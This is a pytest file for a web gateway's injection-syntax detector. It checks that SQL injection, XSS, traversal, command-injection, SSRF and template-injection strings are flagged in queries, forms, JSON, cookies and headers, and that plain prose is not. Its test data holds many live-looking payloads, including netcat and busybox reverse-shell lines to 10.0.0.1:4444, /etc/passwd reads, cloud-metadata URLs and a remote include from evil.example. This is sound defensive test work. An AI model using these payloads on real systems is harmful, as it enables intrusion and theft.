"""The syntax witness: what a model-only block needs to find in a request (gateway.witness)."""

from __future__ import annotations

import dataclasses
import json
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from gateway.features import Features
from gateway.payload.decoding import variants
from gateway.witness import KIND_SHARE, MAX_CHARS, MAX_VALUES, SEARCH_BUDGET, SYNTAX, named_kinds, syntax_free, syntax_witness, values
from tests.conftest import make_features

KINDS = ("sqli", "xss", "traversal", "cmdi", "other")
FORM = [("Host", "shop.example"), ("Content-Type", "application/x-www-form-urlencoded")]
JSON = [("Host", "api.example"), ("Content-Type", "application/json")]

# values people send, with none of the syntax any kind of injection needs
PLAIN = [
    "Password1!", "Summer2024!", "qwerty123", "ana.lopez", "Müller", "Zoë Ångström", "東京 ラーメン", "красные туфли",
    "red shoes size 9", "walnut desk 120 x 60", "2024-11-03", "19.99", "+44 20 7946 0958", "SW1A 1AA", "ord_81f3a9c2",
    "550e8400-e29b-41d4-a716-446655440000", "eyJhbGciOiJIUzI1NiJ9", "how do I reset my password", "cat food for kittens", "sleep apnea",
    "best practice for information schema tables", "what is 2 plus 2", "price-desc", "G-XXXX", "2", "en-GB",
]


# what people write in searches, comments, posts and documentation: prose with its punctuation, the markup a rich-text
# editor posts, code quoted in a post. None of it breaks out of where it lands.
PEOPLE = [
    "don't", "O'Reilly's book", "it's (not) a drill", "we're here, they've gone, I'd say I'm done", "rock'n'roll", "l'été",
    "the users' and admins' rights", "issue #12", "a; b", "C# and F#", "Tom & Jerry", "Q&A", "R&D; AT&T | Verizon",
    "cats & dogs; birds | fish", "wait... what?", "etc.", "Cheers -- Ana", "2010--2020", "Select all that apply (select one)",
    "\"Hello,\" she said. \"Or not.\"", "'single' and \"double\" quotes", "it installs into /usr/local/bin and ~/.config",
    "echo chamber", "sleep 8 hours", "ping me at 5pm", "cat lovers & dog people", "type here; then press enter", "x < y and y > z",
    "50% off", "I <3 this", "JavaScript: The Good Parts", "a regular expression (regex)", "the onload= attribute is not allowed",
    "Hello,\r\nLocation: Berlin\r\nThanks", "line one\nline two\n\nline four",
    "<p>Hello <b>world</b>, don't <i>panic</i></p>", '<a href="https://example.org/docs?a=1&amp;b=2">the docs</a>',
    '<img src="https://example.org/cat.png" alt="a cat">', "<ul><li>one</li><li>two &amp; three</li></ul>",
    '<p align="center"><a href="https://example.org"><img src="https://img.example/badge.svg?label=ci&style=flat"></a></p>',
    '<span style="color: red">x</span>', '<h2 id="install">Install</h2>', "<blockquote>it's fine</blockquote>",
    '<img src="https://img.shields.io/badge/x-y?logo=data:image/svg%2bxml;base64,PHN2Zz4=">',
    # a link on its own, as a person pastes one into a comment, a profile or a share form: a public host, written plainly
    "http://mpmath.org/doc/current/", "https://docs.python.org/3/library/re.html#re.sub", "https://1password.com/", "https://360.cn/",
    "https://www.example.org/search?q=red+shoes&page=2",
    "https://münchen.de/stadtplan", "https://web.archive.org/web/2020/https://example.com/",
    # a system folder named in a search, as a person asks about it, and a parent directory named rather than climbed
    "/var/log examples", "/home folder permissions", "../ relative path python import", "..\\ windows path meaning",
    "print('hello')", "d['key'] = len(items)", "x = 'a' + 'b'", "','.join(names)", 'f("{0}", value)',
    "SELECT name FROM users WHERE id = %s", "run `ls -la` to list files", "```bash\npip install clefgate\n```",
    "```python\nfrom time import sleep\nsleep(0.1)\n```", "$ pip install clefgate", "if (a && b) { run(); }",
    "{{ user.name }} and {% for x in items %}", "${HOME} is your home", 'click.option("--count", default=1)',
    '{"id": "antergos", "like": "arch", "where": "here"}', "// a JavaScript comment", "0x7f3a2b1c", "@@ -1,3 +1,4 @@",
]


@pytest.mark.parametrize("value", PLAIN + PEOPLE)
def test_a_value_in_plain_words_holds_no_kind_s_syntax(value: str) -> None:
    for kind in (*KINDS, "probe"):
        assert SYNTAX[kind].search(value) is None, (kind, value, SYNTAX[kind].search(value))


@pytest.mark.parametrize("kind,value", [
    ("sqli", "1' OR '1'='1"), ("sqli", "1 order by 3"), ("sqli", "1 union select null"), ("sqli", "admin'--"), ("sqli", "1;waitfor delay '0:0:5'"),
    ("sqli", "1 and sleep(5)"), ("sqli", "0x61646d696e"),
    ("xss", "<script>alert(1)</script>"), ("xss", "javascript:alert(1)"), ("xss", "\" onmouseover=alert(1) x=\""), ("xss", "';alert(1)//"),
    ("xss", "{{constructor.constructor('alert(1)')()}}"), ("xss", "data:text/html;base64,PHNjcmlwdD4="), ("xss", "&#60;script&#62;"),
    ("traversal", "../../etc/passwd"), ("traversal", "/etc/passwd"), ("traversal", "php://filter/resource=index.php"),
    ("traversal", "C:\\Windows\\win.ini"), ("traversal", "file:///etc/hosts"), ("traversal", "..%2f..%2f"),
    ("cmdi", "127.0.0.1; id"), ("cmdi", "x | nc 10.0.0.1 4444"), ("cmdi", "`whoami`"), ("cmdi", "$(id)"), ("cmdi", "a\nid"),
    ("cmdi", "x && curl http://e"), ("cmdi", "$IFS"), ("cmdi", "net user hacker Password1 /ADD"), ("cmdi", "ping 127.0.0.1"),
    ("cmdi", "uname -a"), ("cmdi", "whoami"), ("cmdi", "system('id')"), ("cmdi", "<!--#exec cmd=\"id\"-->"),
    ("traversal", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), ("traversal", "0x2e0x2e/0x2e0x2e/etc/issue"), ("traversal", "/var/log/apache2/access.log"),
    ("traversal", "WEB-INF/web.xml"), ("xss", "alert&lpar;1&rpar;"), ("xss", "alert`1`"),
    ("other", "db.injection.insert({success:1});"), ("other", "/out?//x.oast.fun"), ("other", "/\\evil.example"),
    ("other", "{{7*7}}"), ("other", "${jndi:ldap://x/a}"), ("other", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"),
    ("other", "http://169.254.169.254/latest/meta-data/"), ("other", "//evil.example"), ("other", "http://good.example@evil.example"),
    ("other", "O:8:\"stdClass\":0:{}"), ("other", "rO0ABXNyABFq"), ("other", "*)(uid=*"), ("other", "a\r\nSet-Cookie: x=1"),
    ("other", "#{7*7}"), ("other", "<%= 7*7 %>"), ("other", "__proto__"),
])
def test_each_kind_finds_its_own_syntax_and_a_probe_finds_any(kind: str, value: str) -> None:
    assert SYNTAX[kind].search(value) is not None and SYNTAX["probe"].search(value) is not None


# the breakouts of each kind, glued or spaced, as the lists scanners and people who test applications carry them
BREAKOUTS = {
    "sqli": ["x'or'1'='1", "1' or '1'='1", "admin'--", "admin'#", "admin' -- -", "1')or('1'='1", "') or ('a'='a", "1' union select null--",
             "1'union select 1,2", "-1 union/**/select 1,2", "1/*!50000union*/select 1", "1 or 1=1", "1 and 1=2", "1or1=1",
             "1 and 'a'='a'", "1;drop table users", "1; exec xp_cmdshell 'dir'", "1' and sleep(5)#", "1 and sleep(5)",
             "1 and ascii(substring(user(),1,1))>64", "1 and (select 1 from dual)", "1 order by 3--", "1 or @@version",
             "0x61646d696e", "1' || '1'='1", "'+sleep(5)+'", "\"or\"\"=\"", "' or true--", "1;waitfor delay '0:0:5'",
             "' having 1=1--", "it's' or 1=1--", "Robert'); DROP TABLE Students;--", "'", "'))", "1 or x=x"],
    "xss": ['"><svg onload=alert(1)>', "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>", "<x onclick=alert(1)>click", "<iframe src=javascript:alert(1)>",
            '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="//evil.example/">',
            '<form action="//evil.example"><button>go</button></form>', "<style>@import 'http://evil.example/x.css';</style>",
            "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", '" onmouseover=alert(1) x="',
            "';alert(1)//", '"-alert(1)-"', "'+alert(1)+'", "javascript:alert(1)", "java\tscript:alert(1)",
            "data:text/html,<script>alert(1)</script>", "</script><script>alert(1)</script>", "</title><svg/onload=alert(1)>",
            "</textarea><img src=x onerror=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "\\x3cscript\\x3ealert(1)",
            "&lt;script&gt;alert(1)&lt;/script&gt;", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "alert`1`", "+ADw-script+AD4-"],
    "cmdi": ["1;ls -la", ";id", "| id", "|id|", "&& whoami", "|| whoami", "& ping -n 3 127.0.0.1", "$(whoami)", "`id`", "x`id`",
             "a;cat /etc/passwd", "127.0.0.1|nc 10.0.0.1 4444", "127.0.0.1\nid", "x > /tmp/out", "x 2>&1", ";${IFS}cat${IFS}/etc/passwd",
             "ping -c 3 127.0.0.1", "cat /etc/passwd", "; net user", "() { :;}; echo vulnerable", "system('id')", ";sleep 5",
             "& dir c:\\", "%0aid"],
    "traversal": ["../../etc/passwd", "....//....//etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "..%2f..%2fetc%2fpasswd",
                  "%2e%2e%2f", "..%c0%af..%c0%afetc/passwd", "file:///etc/passwd", "/proc/self/environ", "C:\\boot.ini", "\\\\evil\\share"],
    "other": ["{{7*7}}", "${7*7}", "{{config.items()}}", "{{''.__class__.__mro__}}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://x/a}",
              "${${lower:j}ndi:ldap://x/a}", "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "%0d%0aSet-Cookie:x=1",
              "//evil.example", "/\\evil.example", "http://evil.example/shell.txt?", "http://127.0.0.1:22", "http://2130706433/",
              "http://0x7f.1/", "http://[::1]/", "http://localhost:8080/admin", "http://10.0.0.5/", "https://x.oast.pro/",
              "http://metadata.google.internal/computeMetadata/v1/", "http://evil.example\\@good.example/", "http://a.127.0.0.1.nip.io/",
              "http://①②⑦.⓪.⓪.①/", "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/", "http://127。0。0。1/", "http://kubernetes.default.svc/", "http:///evil.example",
              "http://good.example#@evil.example/", "https://redirect.example/?to=http://localhost", "gopher://127.0.0.1:6379/_",
              "http://good.example@evil.example", "[$ne]=1", '{"$gt": ""}', "'; return true; var x='", "*)(uid=*", "*)(|(mail=*))",
              "' or count(/*)=1 or '", "O:8:\"stdClass\":0:{}", "rO0ABXNyABFq", "!!python/object/apply:os.system ['id']",
              "__proto__[admin]=1", "<!--#exec cmd=\"id\"-->"],
}


@pytest.mark.parametrize("kind,value", [(kind, value) for kind, values in BREAKOUTS.items() for value in values])
def test_each_kind_s_breakouts_are_its_syntax_glued_or_spaced(kind: str, value: str) -> None:
    assert SYNTAX[kind].search(value) is not None, (kind, value)
    # as the client sends it in a query, percent-encoded, it is found in the value the application reads
    f = make_features(target="/p?v=" + quote(value, safe=""))
    witness = syntax_witness(f, (kind,))
    assert witness is not None and witness.location == "query:v" and witness.kind == kind


def test_the_kinds_named_are_the_top_one_and_those_with_a_fifth_of_the_answer() -> None:
    assert named_kinds({"sqli": 0.6, "xss": KIND_SHARE, "cmdi": 0.19, "other": 0.01}) == ("sqli", "xss")
    assert named_kinds({"xss": 0.1, "sqli": 0.15, "cmdi": 0.05}) == ("sqli",)  # the top one even below a fifth
    assert named_kinds(None) == named_kinds({}) == ("probe",)                # a model without kinds: any syntax witnesses
    assert named_kinds({"exotic": 0.9, "sqli": 0.1}) == ("probe",)            # a kind this table does not know: any syntax


def test_values_are_read_where_the_application_reads_them_and_not_where_the_client_describes_itself() -> None:
    headers = [("Host", "shop.example"), ("Content-Type", "application/json"),
               ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"),
               ("Referer", "https://shop.example/cart?step=2"), ("Accept-Language", "en-GB,en;q=0.9"),
               ("Cookie", "sid=AbC123.sig; prefs={\"t\":\"dark\"}"), ("X-Custom", "a'b")]
    f = make_features(method="POST", target="/api/cart?coupon=SAVE10", headers=headers, body=b'{"items": [{"sku": "A-1", "note": "gift"}]}')
    read = {location: value for location, value, _ in values(f)}
    assert read == {"path": "/api/cart", "query:coupon": "SAVE10", "json:$.items[0].sku": "A-1", "json:$.items[0].note": "gift",
                    "cookie:prefs": "dark", "header:x-custom": "a'b"}
    # the JSON document's own quotes and braces, the browser's parentheses and the referer's scheme are no witness
    plain = make_features(method="POST", target="/api/cart", headers=headers[:5], body=b'{"items": [{"sku": "A-1", "note": "gift"}]}')
    assert syntax_witness(plain, ("sqli", "xss", "cmdi", "other", "traversal")) is None


@pytest.mark.parametrize("target,headers,body,kinds,location", [
    ("/item?id=1%27%20OR%201=1", None, b"", ("sqli",), "query:id"),                       # decoded as the application reads it
    ("/item?id=1%2527%2520OR", None, b"", ("sqli",), "query:id"),                         # encoded twice
    ("/login", FORM, b"user=a&pw=x%3B+id", ("cmdi",), "form:pw"),
    ("/api", JSON, b'{"a": {"b": ["ok", "<img src=x onerror=alert(1)>"]}}', ("xss",), "json:$.a.b[1]"),
    ("/api", JSON, b'{"q": "\\u003cscript\\u003e"}', ("xss",), "json:$.q"),                  # JSON escapes undone
    ("/upload", [("Host", "h"), ("Content-Type", "application/xml")], b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
     ("other",), "body"),
    ("/files/..%2f..%2fetc%2fpasswd", None, b"", ("traversal",), "path"),
    ("/", [("Host", "h"), ("Cookie", "lang=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D")], b"", ("other",), "cookie:lang"),
    ("/", [("Host", "h"), ("X-Api-Version", "${jndi:ldap://x/a}")], b"", ("other",), "header:x-api-version"),
    ("/r?to=aHR0cDovLzEyNy4wLjAuMS9hZG1pbg==", None, b"", ("other",), "query:to"),        # base64 decoded where it is base64
    ("/login", JSON, b'{"user": "admin", "password": {"$ne": null}}', ("other",), 'json:$.password["$ne"] (key)'),  # an operator key
    ("/api/merge", JSON, b'{"__proto__": {"isAdmin": true}}', ("other",), "json:$.__proto__ (key)"),
    ("/greeting", FORM, b"class.module.classLoader.resources.context.parent.pipeline.first.prefix=x", ("other",),
     "form:class.module.classLoader.resources.context.parent.pipeline.first (name)"),            # Spring's data binding
    ("/index.action?x=%25%7B(%23_memberAccess%5B%27allowStaticMethodAccess%27%5D%3Dtrue)%7D", None, b"", ("other",), "query:x"),  # OGNL
])
def test_the_witness_names_the_value_that_holds_the_syntax(target: str, headers: list[tuple[str, str]] | None, body: bytes,
                                                           kinds: tuple[str, ...], location: str) -> None:
    witness = syntax_witness(make_features(method="POST" if body else "GET", target=target, headers=headers, body=body), kinds)
    assert witness is not None and witness.location == location and witness.kind == kinds[0]
    assert witness.location in witness.describe() and len(witness.fragment) <= 80


@pytest.mark.parametrize("target,kind,witnessed", [
    # a URL path is a page's address, however its folders are named; a system file there, or a climb, is still syntax
    ("/dev/search/", "traversal", False), ("/home/", "probe", False), ("/var/releases/app.tar.gz", "traversal", False),
    ("/etc/passwd", "traversal", True), ("/static/..%2f..%2fetc/hosts", "traversal", True),
    ("/p?file=/var/www/html/index.php", "traversal", True),
    # a search box holds questions: a command line typed there is one asked about, a breakout runs one from anywhere
    ("/search?q=nc+-l+port", "cmdi", False), ("/search?search_term=ping+-t+windows+command", "cmdi", False),
    ("/s?query=wget+-r+-np", "probe", False), ("/search?q=x%3Bcat+/etc/passwd", "cmdi", True), ("/search?q=%24(whoami)", "cmdi", True),
    ("/tools/ping?host=ping+-c+3+127.0.0.1", "cmdi", True), ("/run?cmd=uname+-a", "cmdi", True),
])
def test_a_value_is_searched_as_what_its_place_holds(target: str, kind: str, witnessed: bool) -> None:
    assert (syntax_witness(make_features(target=target), (kind,)) is not None) is witnessed


def test_a_search_field_is_named_so_in_a_form_and_a_json_body_too() -> None:
    form = make_features(method="POST", target="/search", headers=FORM, body=b"q=ping+-t+windows+command")
    assert syntax_witness(form, ("cmdi",)) is None
    body = json.dumps({"filter": {"query": "uname -a"}, "host": "ping -c 3 127.0.0.1"}).encode()
    witness = syntax_witness(make_features(method="POST", target="/api/search", headers=JSON, body=body), ("cmdi",))
    assert witness is not None and witness.location.endswith("host")


def test_a_kind_finds_only_its_own_syntax() -> None:
    f = make_features(target="/search?q=it%27s%27+or+(1)%3D(1)")
    assert syntax_witness(f, ("xss",)) is None and syntax_witness(f, ("traversal", "cmdi")) is None
    assert syntax_witness(f, ("xss", "sqli")) is not None


# consent managers' cookies, in the formats they write (OneTrust: pairs; Cookiebot: an object literal; others: JSON)
ONETRUST = ("isGpcEnabled=0&datestamp=Thu+Dec+03+2026+10%3A12%3A31+GMT%2B0100+(Central+European+Standard+Time)&version=202409.1.0"
            "&browserGpcFlag=0&isIABGlobal=false&hosts=&consentId=5f1c9a8e-3b2d-4e6f-9a1b-7c8d9e0f1a2b&interactionCount=1"
            "&isAnonUser=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A1%2CC0003%3A0%2CC0004%3A0&AwaitingReconsent=false")
COOKIEBOT = ("%7Bstamp%3A%27x7Qm1bJ9sOq4Ue2Q3nGZy8dH0rWf5tKcLa6pVvEiNuT%3D%3D%27%2Cnecessary%3Atrue%2Cpreferences%3Atrue%2Cstatistics%3A"
             "false%2Cmarketing%3Afalse%2Cmethod%3A%27explicit%27%2Cver%3A1%2Cutc%3A1764756751000%2Cregion%3A%27de%27%7D")


@pytest.mark.parametrize("cookie", [
    f"OptanonConsent={ONETRUST}", f"CookieConsent={COOKIEBOT}",
    'cc_cookie={"categories":["necessary","analytics"],"revision":0,"data":null,"consentTimestamp":"2026-12-03T09:12:31.120Z"}',
    "prefs=%7B%22theme%22%3A%22dark%22%2C%22lang%22%3A%22en-GB%22%7D",
])
def test_a_consent_cookie_is_read_as_its_script_reads_it_and_witnesses_nothing(cookie: str) -> None:
    f = make_features(target="/products/12", headers=[("Host", "shop.example"), ("Cookie", f"sid=AbC123.sig; {cookie}")])
    assert syntax_witness(f, tuple(SYNTAX)) is None


@pytest.mark.parametrize("cookie,kind", [
    ("CookieConsent={stamp:'x' OR '1'='1',necessary:true}", "sqli"),           # the structure breaks: read whole
    ("OptanonConsent=isGpcEnabled=0&groups=C0001%3A1%27%3Balert(1)%2F%2F", "xss"),  # a value of the pairs holds it
    ('prefs={"theme":"<script>alert(1)</script>"}', "xss"),
    ("lang=..%2f..%2f..%2f..%2fetc%2fpasswd", "traversal"),
])
def test_a_cookie_that_carries_an_injection_still_witnesses_it(cookie: str, kind: str) -> None:
    f = make_features(target="/products/12", headers=[("Host", "shop.example"), ("Cookie", cookie)])
    witness = syntax_witness(f, (kind,))
    assert witness is not None and witness.location.startswith("cookie:")


# the corpora the model is trained on, read as data: the attack lists (models/corpus/data/payloads.json) and the
# documentation posts rendered from installed packages' README text (apps-rendered-posts.json, made of prose, markup and code)
DATA = Path(__file__).resolve().parents[2] / "models" / "corpus" / "data"
COARSE = {"sqli": "sqli", "xss": "xss", "traversal": "traversal", "lfi": "traversal", "cmdi": "cmdi"}


_FILLED = {"XXpathXX": "http://evil.example/shell.txt?", "{target}": "evil.example", "[ATTACKER.DOMAIN.TLD]": "evil.example",
           "{FILE}": "etc/passwd", "{FILE_NAME}": "etc/passwd", "{cmd}": "id"}


def _attack(family: str, text: str) -> Features:
    """A list entry where the corpus puts it: a remote-include target as the request, an XML document as the body, the
    rest as a query value (kept as written when it is already percent-encoded, else encoded)."""
    for placeholder, value in _FILLED.items():
        text = text.replace(placeholder, value)
    if family == "ssrf" and text.startswith("/") and "?" in text:
        return make_features(target=quote(text, safe="/?=&;:@+,$%[]"))
    if family == "xxe":
        return make_features(method="POST", target="/upload", headers=[("Host", "h"), ("Content-Type", "application/xml")], body=text.encode())
    encoded = "%" in text and text.isascii() and text.isprintable() and not any(c in text for c in " #&")
    return make_features(target="/p?v=" + (text if encoded else quote(text, safe="")))


def _witnessed(kind: str, text: str) -> bool:
    return any(SYNTAX[kind].search(t) is not None for t, _ in variants(text[:MAX_CHARS], plus=False))


def _leaves(node: object) -> Iterator[str]:
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for child in node.values():
            yield from _leaves(child)
    elif isinstance(node, list):
        for child in node:
            yield from _leaves(child)


def test_the_attack_lists_keep_their_witness_and_documentation_posts_hold_almost_none() -> None:
    lists: dict[str, dict[str, list[str]]] = json.loads((DATA / "payloads.json").read_text())
    for kind in ("sqli", "xss", "traversal", "cmdi", "other"):
        entries = [(family, t) for families in lists.values() for family, items in families.items()
                   if COARSE.get(family, "other") == kind and family != "probe" for t in items]
        share = sum(syntax_witness(_attack(family, t), (kind,)) is not None for family, t in entries) / len(entries)
        # what the lists hold without a breakout (a bare keyword, a closing tag, a placeholder, plain markup) is challenged
        assert share >= 0.95, (kind, share)
    posts = json.loads((DATA / "apps-rendered-posts.json").read_text())["shapes"]
    values = [v for shape in posts for v in _leaves(shape["body"])
              if len(v) >= 20]
    assert len(values) > 1000
    for kind in (*KINDS, "probe"):
        share = sum(_witnessed(kind, v) for v in values) / len(values)
        assert share <= (0.05 if kind == "probe" else 0.03), (kind, share)


def test_the_search_is_bounded_per_request_and_what_it_leaves_unread_witnesses_nothing() -> None:
    words = "a plain sentence of words " * 150  # 3,900 characters, no kind's syntax
    breakout = "1' or '1'='1"
    cost = sum(len(text) for text, _ in variants(quote(words), plus=True))  # each decoding of a value is searched
    fits = SEARCH_BUDGET // cost - 1  # values that fit with room for the breakout, one kind searched
    early = make_features(target="/s?" + "&".join([f"v{i}={quote(words)}" for i in range(fits)] + [f"q={quote(breakout)}"]))
    late = make_features(target="/s?" + "&".join([f"v{i}={quote(words)}" for i in range(fits + 8)] + [f"q={quote(breakout)}"]))
    found = syntax_witness(early, ["sqli"])
    assert found is not None and found.location == "query:q"
    assert syntax_witness(late, ["sqli"]) is None
    # every kind named spends the budget: the probe union and a second kind reach less far
    assert syntax_witness(early, ["sqli", "xss", "cmdi", "other"]) is None


FORM_HEADERS = [("Host", "h"), ("Content-Type", "application/x-www-form-urlencoded")]


@pytest.mark.parametrize("features,free", [
    (make_features(target="/search?q=red+shoes+size+9"), True),
    (make_features("POST", "/t/1/reply", FORM_HEADERS, body=b"reply=Use+%60pip+install+-U+psycopg%60%2C+it%27s+fine"), True),
    (make_features(target="/search?q=red+shoes&next=..%2Fadmin"), False),                       # traversal syntax
    (make_features(target="/search?q=" + "a+" * MAX_CHARS), False),                             # a value longer than what is read
    (make_features(target="/f?" + "&".join(f"k{i}=v" for i in range(MAX_VALUES + 1))), False),  # more values than are read
    (make_features(target="/search?q=" + "&q=".join(["red+shoes+" * 300] * 40)), False),      # the budget spent before the end
])
def test_syntax_free_needs_every_value_read_whole_and_none_holding_syntax(features: Features, free: bool) -> None:
    assert syntax_free(features) is free


def test_a_body_the_gateway_kept_only_part_of_is_not_known_free() -> None:
    whole = make_features("POST", "/t/1/reply", FORM_HEADERS, body=b"reply=thanks")
    assert syntax_free(whole)
    assert not syntax_free(dataclasses.replace(whole, content_length=10_000_000))
    assert not syntax_free(dataclasses.replace(whole, content_length=None, chunked=True, body_prefix=b"reply=" + b"a" * 70_000))


BROWSER = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
           ("Accept", "text/html"), ("Accept-Language", "en-GB,en;q=0.5")]


def _with(*extra: tuple[str, str], ctype: str | None = None) -> list[tuple[str, str]]:
    return [*BROWSER, *([("Content-Type", ctype)] if ctype else []), *extra]


def _nested(depth: int, leaf: object) -> object:
    for _ in range(depth):
        leaf = {"a": leaf}
    return leaf


def _post(target: str, ctype: str, body: bytes, *extra: tuple[str, str]) -> Features:
    return make_features("POST", target, _with(*extra, ctype=ctype), body=body)


# attacks the payload detectors and the block witness may both miss, in every place an application reads: each must be
# read as possibly holding syntax, so that P(attack) keeps counting for it (policy.suspicion_needs_syntax)
NOT_FREE = {
    "a query name climbing directories": make_features(target="/download?../../../../etc/passwd"),
    "a query name that is a URL": make_features(target="/proxy?http://169.254.169.254/latest/meta-data/"),
    "a SQL comment glued to a name": make_features(target="/s?page=2&id--=1"),
    "a token cookie climbing directories": make_features(target="/s?page=2", headers=_with(("Cookie", "lang=../../../../etc/passwd"))),
    "a token cookie with a tautology": make_features(target="/s?page=2", headers=_with(("Cookie", "uid=1+or+1=1"))),
    "a token cookie that is a URL": make_features(target="/s?page=2", headers=_with(("Cookie", "next=http://169.254.169.254/"))),
    "Accept-Language climbing directories": make_features(target="/s?page=2", headers=[*BROWSER[:3], ("Accept-Language", "../../etc/passwd%00")]),
    "X-Real-IP with a quote": make_features(target="/s?page=2", headers=_with(("X-Real-IP", "1' or '1'='1"))),
    "Basic credentials": make_features(target="/s?page=2", headers=_with(("Authorization", "Basic YWRtaW4nIG9yIDE9MS0tIDp4"))),
    "an expression in Content-Type": _post("/upload", "%{(#_='multipart/form-data').(#cmd='id')}", b"a=b"),
    "X-Request-Id with a quote": make_features(target="/s?page=2", headers=_with(("X-Request-Id", "1' or '1'='1"))),
    "X-Forwarded-Host unlike Host": make_features(target="/reset?user=a", headers=_with(("X-Forwarded-Host", "evil.example"))),
    "a header no browser sends": make_features(target="/s?page=2", headers=_with(("X-Callback-Url", "http://169.254.169.254/"))),
    "JSON deeper than its values are read": _post("/api", "application/json", json.dumps(_nested(40, "1' union select 1--")).encode()),
    "a repeated JSON key": _post("/api", "application/json", b'{"q":"1\' or 1=1--","q":"ok"}'),
    "a JSON key climbing directories": _post("/api", "application/json", b'{"../../../../etc/passwd":"x"}'),
    "a NoSQL operator as a JSON key": _post("/login", "application/json", b'{"user":"admin","password":{"$ne":null}}'),
    "prototype pollution in a JSON key": _post("/api", "application/json", b'{"__proto__":{"isAdmin":true}}'),
    "JSON in UTF-16": _post("/api", "application/json", '{"q":"1\' union select 1--"}'.encode("utf-16")),
    "a form in EBCDIC": _post("/login", "application/x-www-form-urlencoded; charset=ibm037", "user=admin' or 1=1--".encode("cp037")),
    "a compressed body": _post("/login", "application/x-www-form-urlencoded", b"\x1f\x8b\x08\x00", ("Content-Encoding", "gzip")),
    "a multipart file name in RFC 5987 form": _post("/up", "multipart/form-data; boundary=XX", b"--XX\r\nContent-Disposition: form-data; "
                                                    b"name=\"f\"; filename*=UTF-8''..%2F..%2Fshell.php\r\n\r\nhello\r\n--XX--\r\n"),
    "two multipart boundaries": _post("/up", "multipart/form-data; boundary=AA; boundary=BB",
                                      b"--BB\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nx\r\n--BB--\r\n"),
    "a base64 multipart part": _post("/up", "multipart/form-data; boundary=XX", b"--XX\r\nContent-Disposition: form-data; name=\"q\"\r\n"
                                     b"Content-Transfer-Encoding: base64\r\n\r\nMScgdW5pb24gc2VsZWN0IDEtLQ==\r\n--XX--\r\n"),
    "a multipart body without its boundary": _post("/up", "multipart/form-data; boundary=XX", b"q=1' union select 1--"),
    "a fullwidth quote": make_features(target="/s?q=admin%EF%BC%87%20or%20%EF%BC%871%EF%BC%87%3D%EF%BC%871"),
    "fullwidth markup": make_features(target="/s?q=%EF%BC%9Cscript%EF%BC%9Ealert%EF%BC%881%EF%BC%89"),
    "a chunked body": dataclasses.replace(_post("/f", "application/x-www-form-urlencoded", b"a=b"), content_length=None, chunked=True),
    "a NoSQL operator in a query name": make_features(target="/login?user=admin&password[$ne]=x"),
    "a boolean in a numeric context": make_features(target="/item?id=1%20or%20true"),
    "a sleep call": make_features(target="/item?id=sleep(5)"),
    "arithmetic in an id": make_features(target="/item?id=2-1"),
    "a JSONP callback": make_features(target="/s?cb=alert"),
    "a hex literal": make_features(target="/s?id=0x27"),
    "a char call": make_features(target="/s?id=char(39)"),
    "a prototype through constructor keys": _post("/api", "application/json", b'{"constructor":{"prototype":{"admin":true}}}'),
    "a prototype path as strings": _post("/api", "application/json", b'{"set":[["constructor","prototype","isAdmin"],true]}'),
    "JSON under text/plain": _post("/api", "text/plain", b'{"__proto__":{"isAdmin":true}}'),
    "a repeated key in JSON under text/plain": _post("/api", "text/plain", b'{"q":"1\' union select 1-- ","q":"ok"}'),
    "MySQL's DISTINCTROW": make_features(target="/item?id=-1+UNION+DISTINCTROW+SELECT+username,password+FROM+users"),
    "a union separated by %A0": make_features(target="/s?id=-1%A0union%A0select%A0password%A0from%A0users"),
    "busybox after a separator": make_features(target="/tools/ping?host=127.0.0.1;busybox+nc+10.0.0.1+4444+-e+sh"),
    "quotes inside a command word": make_features(target="/tools/ping?host=;ca''t+/e''tc/pa''sswd"),
    "brace expansion": make_features(target="/tools/ping?host=;{whoami,}"),
    "a globbed path": make_features(target="/tools/ping?host=;/b?n/c?t+/e?c/p?sswd"),
    "an argument injected": make_features(target="/tools/clone?url=--upload-pack=touch+/tmp/pwn"),
    "a framework directive after a quote": make_features(target="/s?q=%22+autofocus+ng-focus%3D%24event.view.location%3Dname+x%3D%22"),
    "script in a numeric context": make_features(target="/s?n=1;location=name"),
    "a template literal that assigns": make_features(target="/s?q=%24%7Blocation%3Dname%7D"),
    "a redirect through a tab": make_features(target="/login?next=/%09/evil.example"),
    "a line break before any header": make_features(target="/r?u=x%0d%0aX-Accel-Redirect:+/internal/secret"),
    "a NoSQL operator in a cookie name": make_features(target="/s?page=2", headers=_with(("Cookie", "token[$ne]=1"))),
    "a prototype in a cookie name": make_features(target="/s?page=2", headers=_with(("Cookie", "constructor[prototype][isAdmin]=1"))),
    "a pickle in base64": make_features(target="/s?state=gASVJQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg%3D%3D"),
    "SQL in If-None-Match": make_features(target="/s?page=2", headers=_with(("If-None-Match", "1 union select password from users"))),
    "an OGNL expression": make_features(target="/s?q=%25%7B1%2B1%7D"),
    "a secret file by name": make_features(target="/dl?file=.env"),
    "a mathematical-alphanumeric keyword": make_features(target="/s?q=1%27+%F0%9D%90%A8%F0%9D%90%AB+1%3D1--"),
